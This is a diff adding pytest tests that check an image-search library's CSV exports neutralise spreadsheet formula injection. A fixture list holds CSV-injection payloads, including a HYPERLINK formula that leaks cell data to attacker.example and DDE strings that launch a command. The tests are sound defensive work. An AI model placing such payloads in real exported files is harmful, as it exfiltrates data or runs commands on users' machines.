@@ -2,6 +2,7 @@
 scans are refused before decoding (over REST, in a real service whose four decode slots stay
 free for everyone else), normal progressive JPEGs still work, uploads decode at the reduced
 size the model needs, and exported CSV cells cannot run as spreadsheet formulas."""
+import csv
 import io
 import json
 import os
@@ -251,3 +252,70 @@ def test_uploads_decode_at_the_models_reduced_size(tmp_path, monkeypatch):
     finally:
         svc.close()
     assert sizes == [(500, 375)]
+
+
+# -- exports: cells are data, never formulas ------------------------------------------------------
+HOSTILE = ['=HYPERLINK("http://attacker.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0",
+           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
+
+
+@pytest.fixture(scope="module")
+def hostile_collection(tmp_path_factory):
+    """Images whose labels, predictions, splits and imported metadata are formulas, one in a
+    file whose name starts with '='; a numeric column with negative numbers."""
+    tmp = tmp_path_factory.mktemp("trust_exports")
+    src = tmp / "src"
+    src.mkdir()
+    names = ["=evil.jpg", "b.jpg", "c.jpg", "d.jpg", "e.jpg", "f.jpg", "g.jpg"]
+    photo = skimage.data.astronaut()
+    for i, name in enumerate(names):
+        Image.fromarray(np.roll(photo, 37 * i, axis=1)).save(src / name)
+    labels = pd.DataFrame({
+        "path": names, "label": [*HOSTILE, "-1"], "prediction": ["-3", *HOSTILE],
+        "confidence": [0.5] * 7, "split": ["=train", "train", "val", "val", "train", "val", "@x"],
+        "note": ["=1+2", "plain", "-5", "+cmd", "@me", "x-y", "- a list item"],
+        "weight": [-1.5, 2.0, -3.0, 0.0, 1.0, -0.25, 4.0]})
+    labels.to_csv(src / "labels.csv", index=False, quoting=csv.QUOTE_NONNUMERIC)
+    home = tmp / "home"
+    imgsearch.index_images(src, "x", model="pixels", size=8, labels=src / "labels.csv", home=home,
+                           workers=0, progress=False)
+    with imgsearch.open_collection("x", home=home) as col:
+        col.build_map("pca")
+        yield col, src
+
+
+def _formula_free(df, columns):
+    for c in columns:
+        for v in df[c].dropna():
+            assert not (isinstance(v, str) and v[:1] in ("=", "+", "@", "\t", "\r")), (c, v)
+            assert not (isinstance(v, str) and v.startswith("-") and v not in ("-1", "-3", "-5")), (c, v)
+
+
+def test_metascatter_export_neutralises_formula_cells(hostile_collection, tmp_path):
+    col, src = hostile_collection
+    out = tmp_path / "ms.csv"
+    col.export_metascatter(out, prefix=src, method="pca")
+    df = pd.read_csv(out, keep_default_na=False, na_values=[""])
+    _formula_free(df, ["label", "prediction", "split", "note"])
+    assert set(df["label"]) == {"'" + h for h in HOSTILE} | {"-1"}   # every one kept, prefixed
+    assert "'=1+2" in set(df["note"]) and "x-y" in set(df["note"]) and "'- a list item" in set(df["note"])
+    assert "=evil.jpg" in set(df["Paths"])                            # paths as they are
+    assert df["weight"].dtype.kind == "f" and df["weight"].min() == -3.0     # numbers stay numbers
+    assert df["X-Coord"].dtype.kind == "f" and df["confidence"].dtype.kind == "f"
+    sample = tmp_path / "sample.csv"
+    col.export_metascatter(sample, method="pca", spelling="sample")
+    df = pd.read_csv(sample, keep_default_na=False, na_values=[""])
+    _formula_free(df, ["Labels", "Prediction", "split", "note"])
+    assert str(src / "=evil.jpg") in set(df["Image_path"])
+
+
+def test_subset_export_neutralises_too(hostile_collection, tmp_path):
+    col, src = hostile_collection
+    out = tmp_path / "subset.csv"
+    col.export_subset(out, exclude_tag=None)
+    df = pd.read_csv(out, keep_default_na=False, na_values=[""])
+    _formula_free(df, ["label", "split"])
+    assert str(src / "=evil.jpg") in set(df["path"]) and "'=train" in set(df["split"])
+    raw = out.read_bytes().decode()   # rows end in CRLF; a lone CR stays inside its quoted cell
+    assert raw.count("\r\n") == len(df) + 1 and '"\'\r=1+1"' in raw
+    assert "\r\n=" not in raw and ",=" not in raw and ",+" not in raw and ",@" not in raw
